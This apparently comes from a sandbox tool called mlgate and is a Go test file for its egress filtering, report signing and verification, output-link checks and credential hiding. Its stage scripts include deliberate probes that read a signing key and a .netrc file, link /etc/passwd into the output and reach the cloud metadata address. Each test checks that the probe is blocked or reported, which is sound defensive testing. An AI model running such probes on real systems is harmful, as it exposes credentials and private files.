// dialer; a name that resolves to the metadata address is still refused.
func TestStageEgressPrivateAllowed(t *testing.T) {
	upstream := echoServer(t)
	_, port, _ := net.SplitHostPort(upstream)
	resolve := func(ctx context.Context, host string) ([]netip.Addr, error) {
		if host == "meta.example" {
			return []netip.Addr{netip.MustParseAddr("169.254.169.254")}, nil
		}
		return localhostOnly(ctx, host)
	}
	var rules []HostRule
	for _, h := range []string{"localhost:" + port, "meta.example:80"} {
		r, _ := ParseHostRule(h)
		rules = append(rules, r)
	}
	s := stage(t, Options{
		Argv:    []string{ensureHelper(), "proxy", "localhost:" + port, "meta.example:80"},
		Network: NetworkAllow, AllowHosts: rules, Resolve: resolve, AllowPrivateEgress: true,
	})
	if !strings.Contains(s.stdout, "localhost:"+port+" 200 <nil>") || !strings.Contains(s.stdout, "meta.example:80 403") {
		t.Errorf("stdout %q", s.stdout)
	}
	if !hasFinding(s.res, "run/cloud-metadata") || !hasFinding(s.res, "run/egress-private-address") {
		t.Errorf("findings: %v", s.res.Findings)
	}
}

// signedReport runs a stage that writes into an output directory under its
// working directory and returns the signed statement of its report.
func signedReport(t *testing.T, signer crypto.Signer, work string, script string, hide ...string) (stageOut, []byte) {
	t.Helper()
	s := stage(t, Options{Argv: []string{"sh", "-c", script}, Dir: work, RW: []string{filepath.Join(work, "out")}, Hide: hide})
	rep, err := json.Marshal(map[string]any{"inputs": []any{map[string]any{"path": "stage", "format": "run", "status": "analyzed", "details": s.res}}, "findings": []any{}})
	if err != nil {
		t.Fatal(err)
	}
	st, err := NewReportStatement(rep, s.res)
	if err != nil {
		t.Fatal(err)
	}
	env, err := SignReport(signer, st)
	if err != nil {
		t.Fatal(err)
	}
	return s, env
}

func failureKinds(v *ReportVerification) []string {
	var out []string
	for _, f := range v.Failures {
		out = append(out, string(f.Kind)+":"+f.Subject)
	}
	return out
}

func TestStageSignedReport(t *testing.T) {
	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	other, _ := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	work := outsideTmp(t)
	_ = os.Chmod(work, 0o755)
	if err := os.MkdirAll(filepath.Join(work, "out", "sub"), 0o755); err != nil {
		t.Fatal(err)
	}
	// A file that was there before and is left alone is not a subject.
	os.WriteFile(filepath.Join(work, "out", "old.txt"), []byte("old"), 0o644)
	// The key file lies in the working directory: the stage must not read it.
	keyFile := filepath.Join(work, "signing.pem")
	os.WriteFile(keyFile, []byte("PRIVATE-KEY-MATERIAL"), 0o644)
	s, env := signedReport(t, key, work, "echo weights > out/model.bin; echo '{}' > out/sub/config.json; ln -s model.bin out/latest; cat signing.pem; echo rc=$?", keyFile)
	if strings.Contains(s.stdout, "PRIVATE-KEY-MATERIAL") || !strings.Contains(s.stdout, "rc=1") {
		t.Errorf("the stage could read the signing key: %q", s.stdout)
	}
	v, err := VerifyReport(env, &key.PublicKey, work)
	if err != nil {
		t.Fatal(err)
	}
	if !v.OK() || v.Checked != 2 || v.Verdict != VerdictClean || v.ExitCode != 0 || len(v.Command) != 3 {
		t.Fatalf("verify: %v checked %d verdict %q exit %d command %q", failureKinds(v), v.Checked, v.Verdict, v.ExitCode, v.Command)
	}
	var names []string
	for _, sub := range v.Statement.Subject {
		names = append(names, sub.Name)
	}
	if strings.Join(names, ",") != "out/model.bin,out/sub/config.json" || v.Statement.Predicate.Subjects != SubjectsOutputs ||
		strings.Join(v.Statement.Predicate.Outputs, ",") != "out" || v.Statement.PredicateType != ReportPredicateType {
		t.Errorf("subjects %v, predicate %+v", names, v.Statement.Predicate.Outputs)
	}

	// Another copy of the outputs elsewhere verifies against that directory.
	copyDir := outsideTmp(t)
	os.MkdirAll(filepath.Join(copyDir, "out", "sub"), 0o755)
	for _, n := range []string{"out/model.bin", "out/sub/config.json"} {
		b, _ := os.ReadFile(filepath.Join(work, n))
		os.WriteFile(filepath.Join(copyDir, n), b, 0o644)
	}
	if v, _ := VerifyReport(env, &key.PublicKey, copyDir); !v.OK() {
		t.Errorf("copied outputs: %v", failureKinds(v))
	}

	// Wrong key.
	if v, _ := VerifyReport(env, &other.PublicKey, work); v.OK() || v.Failures[0].Kind != AttestBadSignature || !strings.Contains(v.Failures[0].Msg, "wrong key") {
		t.Errorf("wrong key: %v", failureKinds(v))
	}
	// A report changed after signing (verdict rewritten in the payload).
	var envJSON map[string]any
	json.Unmarshal(env, &envJSON)
	payload, _ := base64.StdEncoding.DecodeString(envJSON["payload"].(string))
	forged := bytes.Replace(payload, []byte(`"exit_code":0`), []byte(`"exit_code":1`), 1)
	if bytes.Equal(forged, payload) {
		t.Fatal("test did not change the payload")
	}
	envJSON["payload"] = base64.StdEncoding.EncodeToString(forged)
	tampered, _ := json.Marshal(envJSON)
	if v, _ := VerifyReport(tampered, &key.PublicKey, work); v.OK() || v.Failures[0].Kind != AttestBadSignature || v.Statement != nil {
		t.Errorf("tampered report: %v", failureKinds(v))
	}
	// A changed, a removed and a replaced output.
	os.WriteFile(filepath.Join(copyDir, "out/model.bin"), []byte("poisoned\n"), 0o644)
	os.Remove(filepath.Join(copyDir, "out/sub/config.json"))
	if err := os.Symlink("/etc/hostname", filepath.Join(copyDir, "out/sub/config.json")); err != nil {
		t.Fatal(err)
	}
	v, _ = VerifyReport(env, &key.PublicKey, copyDir)
	if got := strings.Join(failureKinds(v), " "); got != "digest-mismatch:out/model.bin not-regular-file:out/sub/config.json" {
		t.Errorf("changed outputs: %s", got)
	}
	os.Remove(filepath.Join(copyDir, "out/sub/config.json"))
	v, _ = VerifyReport(env, &key.PublicKey, copyDir)
	if got := strings.Join(failureKinds(v), " "); got != "digest-mismatch:out/model.bin missing-file:out/sub/config.json" {
		t.Errorf("missing output: %s", got)
	}

	// A stage that writes nothing: the one subject is the report.
	empty := outsideTmp(t)
	_ = os.Chmod(empty, 0o755)
	os.Mkdir(filepath.Join(empty, "out"), 0o755)
	_, env2 := signedReport(t, key, empty, "true")
	v, _ = VerifyReport(env2, &key.PublicKey, empty)
	if !v.OK() || v.Statement.Predicate.Subjects != SubjectsReport || len(v.Statement.Subject) != 1 || v.Statement.Subject[0].Name != ReportSubjectName {
		t.Errorf("report-only statement: %v %+v", failureKinds(v), v.Statement)
	}
}

// TestStageOutputLinks: links the stage leaves in its output are checked
// after the run. Links that leave the output are reported; links that stay
// inside it, and hard links between its own files, are not.
func TestStageOutputLinks(t *testing.T) {
	work := outsideTmp(t)
	_ = os.Chmod(work, 0o755)
	out := filepath.Join(work, "out")
	os.MkdirAll(filepath.Join(out, "sub"), 0o755)
	script := "cd " + out + " && echo w > model.bin && ln -s /etc/passwd creds && ln -s ../../ci.sh sub/up && " +
		"ln -s model.bin latest && ln -s ../model.bin sub/cfg && ln -s " + out + "/model.bin abs-inside && ln model.bin model-copy.bin"
	s := stage(t, Options{Argv: []string{"sh", "-c", script}, Dir: work, RW: []string{out}})
	if s.res.ExitCode != 0 {
		t.Fatalf("exit %d: %s", s.res.ExitCode, s.stdout)
	}
	var escaped []string
	for _, f := range s.res.Findings {
		switch f.RuleID {
		case "run/output-symlink-escape":
			escaped = append(escaped, f.Evidence)
		case "run/output-hardlink-escape":
			t.Errorf("a hard link between two output files reported: %s", f.Message)
		}
	}
	sort.Strings(escaped)
	want := []string{out + "/creds -> /etc/passwd", out + "/sub/up -> ../../ci.sh"}
	if strings.Join(escaped, "|") != strings.Join(want, "|") {
		t.Errorf("escaping links reported: %q, want %q", escaped, want)
	}
	types := map[string]string{}
	for _, c := range s.res.FileChanges {
		types[strings.TrimPrefix(c.Path, out+"/")] = c.Type + ":" + c.Target
	}
	if types["creds"] != "symlink:/etc/passwd" || types["model.bin"] != "file:" || types["latest"] != "symlink:model.bin" {
		t.Errorf("file changes: %v", types)
	}
}

// TestStageOutputHardLinkFromOutside: a file linked into the output from
// a directory mlgate does not watch is reported. The stage itself cannot
// make such a link (landlock refuses to link from outside its writable
// trees), so the test makes it from outside the sandbox while the stage
// runs, as another process on the runner could.
func TestStageOutputHardLinkFromOutside(t *testing.T) {
	work := outsideTmp(t)
	_ = os.Chmod(work, 0o755)
	out := filepath.Join(work, "out")
	elsewhere := filepath.Join(work, "elsewhere")
	os.MkdirAll(out, 0o755)
	os.MkdirAll(elsewhere, 0o755)
	secret := filepath.Join(elsewhere, "ci-script.sh")
	os.WriteFile(secret, []byte("#!/bin/sh\n"), 0o755)
	done := make(chan struct{})
	go func() {
		defer close(done)
		for i := 0; i < 3000; i++ {
			if _, err := os.Stat(filepath.Join(out, "ready")); err == nil {
				os.Link(secret, filepath.Join(out, "planted.sh"))
				os.WriteFile(filepath.Join(out, "go"), nil, 0o644)
				return
			}
			time.Sleep(10 * time.Millisecond)
		}
	}()
	// The stage also tries the link itself: landlock must refuse it.
	script := fmt.Sprintf("cd %[1]s && touch ready && ln %[2]s own-link.sh; echo ln=$?; while [ ! -e go ]; do sleep 0.01; done", out, secret)
	s := stage(t, Options{Argv: []string{"sh", "-c", script}, Dir: work, RW: []string{out}})
	<-done
	if !strings.Contains(s.stdout, "ln=1") {
		t.Errorf("the stage linked a file from outside its writable tree: %q", s.stdout)
	}
	found := 0
	for _, f := range s.res.Findings {
		if f.RuleID == "run/output-hardlink-escape" {
			found++
			if !strings.Contains(f.Message, out+"/planted.sh appeared with 2 hard links, but only 1") {
				t.Errorf("message: %s", f.Message)
			}
		}
	}
	if found != 1 {
		t.Errorf("%d hard-link findings, want 1: %v", found, s.res.Findings)
	}
}

// TestStageCredentialHardLink: hiding covers a credential's path; a second
// hard link to it stays readable. mlgate cannot cover it, but says so:
// in the credential layer's reason and with a finding.
func TestStageCredentialHardLink(t *testing.T) {
	home := outsideTmp(t)
	_ = os.Chmod(home, 0o755)
	os.MkdirAll(filepath.Join(home, ".aws"), 0o755)
	os.MkdirAll(filepath.Join(home, "backup"), 0o755)
	netrc := filepath.Join(home, ".netrc")
	os.WriteFile(netrc, []byte("netrc-secret-value"), 0o644)
	os.WriteFile(filepath.Join(home, ".aws/credentials"), []byte("aws-secret-value"), 0o644)
	os.WriteFile(filepath.Join(home, ".aws/config"), []byte("[default]"), 0o644)
	if err := os.Link(netrc, filepath.Join(home, "backup/netrc.bak")); err != nil {
		t.Skip("cannot hard-link here: ", err)
	}
	// A hard link inside a hidden directory is found too.
	if err := os.Link(filepath.Join(home, ".aws/config"), filepath.Join(home, "backup/aws-config")); err != nil {
		t.Fatal(err)
	}
	env := []string{"PATH=/usr/bin:/bin", "HOME=" + home}
	s := stage(t, Options{Argv: []string{"sh", "-c", fmt.Sprintf("cat %[1]s/.netrc; echo; cat %[1]s/backup/netrc.bak", home)}, Home: home, Environ: env})
	// The limit is real: the covered path fails, the other name is read.
	if strings.Count(s.stdout, "netrc-secret-value") != 1 {
		t.Errorf("stdout %q", s.stdout)
	}
	var linked []string
	for _, f := range s.res.Findings {
		if f.RuleID == "run/credential-hard-link" {
			linked = append(linked, f.Evidence)
		}
	}
	sort.Strings(linked)
	want := []string{home + "/.aws/config (2 links)", home + "/.netrc (2 links)"}
	if strings.Join(linked, "|") != strings.Join(want, "|") {
		t.Errorf("credential-hard-link findings %q, want %q", linked, want)
	}
	for _, l := range s.res.Layers {
		if l.Name == LayerCredentials && (!l.Active || !strings.Contains(l.Reason, "NOT covered: other hard links of "+home+"/.aws/config (2 links)")) {
			t.Errorf("credential layer: active %v, %s", l.Active, l.Reason)
		}
	}
}

// TestStageStressConcurrentExecs: 20 shells at once, each starting 100
// short-lived processes and making 3 connect attempts to a loopback port,
// plus background processes left running. Every exec and connect must be
// recorded exactly once, the supervisor must not deadlock (a watchdog
// dumps every goroutine if the run does not end), and nothing of the
// stage may survive it.
func TestStageStressConcurrentExecs(t *testing.T) {
	if testing.Short() {
		t.Skip("-short")
	}
	if why := sandboxAvailable(); why != "" {
		t.Skip(why)
	}
	if ensureHelper() == "" {
		t.Skip("no helper copy")
	}
	const shells, perShell, connects = 20, 100, 3
	marker := fmt.Sprintf("mlgate-stress-%d-%d", os.Getpid(), time.Now().UnixNano())
	port := "47613"
	loop := fmt.Sprintf("i=0; while [ $i -lt %d ]; do /bin/true; i=$((i+1)); done; %s connectn 127.0.0.1:%s %d >/dev/null", perShell, ensureHelper(), port, connects)
	script := fmt.Sprintf("for j in $(seq %d); do sh -c '%s' worker & done; "+
		"for j in 1 2 3; do (sh -c 'sleep 1000; true' %s &) ; done; wait; echo all-done", shells, loop, marker)
	var out, errb bytes.Buffer
	o := Options{
		Argv: []string{"sh", "-c", script}, Dir: "/", Stdout: &out, Stderr: &errb, NoDefaultWatch: true,
		Environ: []string{"PATH=/usr/local/bin:/usr/bin:/bin", "HOME=" + os.Getenv("HOME"), envHelper + "=1"}, Env: []string{envHelper},
	}
	type result struct {
		res *Result
		err error
	}
	done := make(chan result, 1)
	ctx, cancel := context.WithTimeout(context.Background(), 5*time.Minute)
	defer cancel()
	go func() {
		r, err := Run(ctx, o)
		done <- result{r, err}
	}()
	var r result
	select {
	case r = <-done:
	case <-time.After(3 * time.Minute):
		buf := make([]byte, 1<<20)
		n := runtime.Stack(buf, true)
		t.Fatalf("the run did not end: deadlock?\n%s", buf[:n])
	}
	if r.err != nil {
		if strings.Contains(r.err.Error(), "start the sandbox") {
			t.Skip(r.err)
		}
		t.Fatal(r.err)
	}
	res := r.res
	trues, conns, workers, sleepers := 0, 0, 0, 0
	for _, e := range res.Events {
		switch {
		case e.Kind == EventExec && len(e.Argv) == 4 && e.Argv[3] == marker:
			sleepers++
		case e.Kind == EventExec && e.Path == "/bin/true":
			trues++
		case e.Kind == EventExec && len(e.Argv) == 4 && e.Argv[3] == "worker":
			workers++
		case e.Kind == EventConnect && e.Addr == "127.0.0.1" && strconv.Itoa(e.Port) == port:
			conns++
		}
	}
	if trues != shells*perShell || conns != shells*connects || workers != shells || res.EventsDropped != 0 {
		t.Errorf("recorded %d of %d execs, %d of %d connects, %d of %d workers (%d dropped)",
			trues, shells*perShell, conns, shells*connects, workers, shells, res.EventsDropped)
	}
	if sleepers != 3 {
		t.Errorf("%d of 3 background processes started", sleepers)
	}
	if !strings.Contains(out.String(), "all-done") || res.ExitCode != 0 || !layerActive(res, LayerExecMonitor) {
		t.Errorf("exit %d, stdout %q, stderr %q", res.ExitCode, out.String(), errb.String())
	}
	// The background sleepers were killed with the stage.
	procs, _ := filepath.Glob("/proc/[0-9]*/cmdline")
	for _, p := range procs {
		if b, err := os.ReadFile(p); err == nil && bytes.Contains(b, []byte(marker)) {
			t.Errorf("a stage process survived the run: %s %q", p, b)
		}
	}
}

// TestStageSignedReportUnreadableOutput: an output the supervisor cannot
// read (the stage made it mode 000; only an unprivileged supervisor is
// stopped by that) is listed as unhashed instead of failing the signature
// or being passed off as covered.
func TestStageSignedReportUnreadableOutput(t *testing.T) {
	key, _ := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	work := outsideTmp(t)
	_ = os.Chmod(work, 0o755)
	os.Mkdir(filepath.Join(work, "out"), 0o755)
	_, env := signedReport(t, key, work, "echo a > out/model.bin; echo b > out/locked; chmod 000 out/locked; mkdir out/hid; echo c > out/hid/x; chmod 000 out/hid")
	t.Cleanup(func() { os.Chmod(filepath.Join(work, "out/hid"), 0o755) })
	v, err := VerifyReport(env, &key.PublicKey, work)
	if err != nil || !v.OK() {
		t.Fatalf("verify: %v %v", err, failureKinds(v))
	}
	var names []string
	for _, s := range v.Statement.Subject {
		names = append(names, s.Name)
	}
	un := v.Statement.Predicate.Unhashed
	if os.Geteuid() == 0 {
		if strings.Join(names, ",") != "out/hid/x,out/locked,out/model.bin" || len(un) != 0 {
			t.Errorf("as root every output is readable: subjects %v, unhashed %v", names, un)
		}
		return
	}
	sort.Strings(un)
	if strings.Join(names, ",") != "out/model.bin" || len(un) != 2 || !strings.HasPrefix(un[0], "out/hid/: directory unreadable") || !strings.HasPrefix(un[1], "out/locked: ") {
		t.Errorf("subjects %v, unhashed %v", names, un)
	}
}

// localhostOnly resolves "localhost" with the system resolver when
// /etc/hosts names it (so the test takes the real lookup path without
// sending a DNS query), else as 127.0.0.1; any other name fails.
func localhostOnly(ctx context.Context, host string) ([]netip.Addr, error) {
	if host != "localhost" {
		return nil, fmt.Errorf("test resolver: no address for %s", host)
	}
	if b, err := os.ReadFile("/etc/hosts"); err == nil {
		for _, line := range strings.Split(string(b), "\n") {
			f := strings.Fields(line)
			if len(f) >= 2 && f[0] == "127.0.0.1" && slices.Contains(f[1:], "localhost") {
				return net.DefaultResolver.LookupNetIP(ctx, "ip", host)
			}
		}
	}
	return []netip.Addr{netip.MustParseAddr("127.0.0.1")}, nil
}

// TestStageSendmsgDestinationsOnHostNetwork: with the host network a
// datagram sent with sendmsg(2) and a destination can leave the machine,
// so the call is held and its destination recorded (the listener is then
// taken with pidfd_getfd, since the shim cannot pass it with sendmsg); a
// sendmsg on a connected socket names none (its connect is recorded) and,
// in the stage's own network namespace, sendmsg is not held at all.
func TestStageSendmsgDestinationsOnHostNetwork(t *testing.T) {
	l, err := net.ListenUDP("udp4", &net.UDPAddr{IP: net.IPv4(127, 0, 0, 1)})
	if err != nil {
		t.Fatal(err)
	}
	defer l.Close()
	port := l.LocalAddr().(*net.UDPAddr).Port
	sendtos := func(s stageOut) int {
		n := 0
		for _, e := range s.res.Events {
			if e.Kind == EventSendto && e.Addr == "127.0.0.1" && e.Port == port {
				n++
			}
		}
		return n
	}
	named := stage(t, Options{Argv: []string{ensureHelper(), "sendmsg", "127.0.0.1", strconv.Itoa(port), "named"}, Network: NetworkHost})
	if !strings.Contains(named.stdout, "sendmsg: <nil>") || sendtos(named) != 1 {
		t.Errorf("host network, sendmsg with a destination: stdout %q, %d sendto events, want 1: %+v", named.stdout, sendtos(named), named.res.Events)
	}
	if r := layerReason(named.res, LayerConnectMon); !strings.Contains(r, "sendmsg") {
		t.Errorf("connect monitor reason %q does not say sendmsg is held", r)
	}
	if !layerActive(named.res, LayerExecMonitor) || len(named.res.Errors) > 0 {
		t.Errorf("exec monitor %v, errors %v", layerActive(named.res, LayerExecMonitor), named.res.Errors)
	}
	connected := stage(t, Options{Argv: []string{ensureHelper(), "sendmsg", "127.0.0.1", strconv.Itoa(port), "connected"}, Network: NetworkHost})
	if !strings.Contains(connected.stdout, "sendmsg: <nil>") || sendtos(connected) != 0 {
		t.Errorf("connected socket: stdout %q, %d sendto events, want 0", connected.stdout, sendtos(connected))
	}
	own := stage(t, Options{Argv: []string{ensureHelper(), "sendmsg", "127.0.0.1", strconv.Itoa(port), "named"}})
	if sendtos(own) != 0 {
		t.Errorf("own network namespace: %d sendto events for sendmsg, want 0 (not held there)", sendtos(own))
	}
}
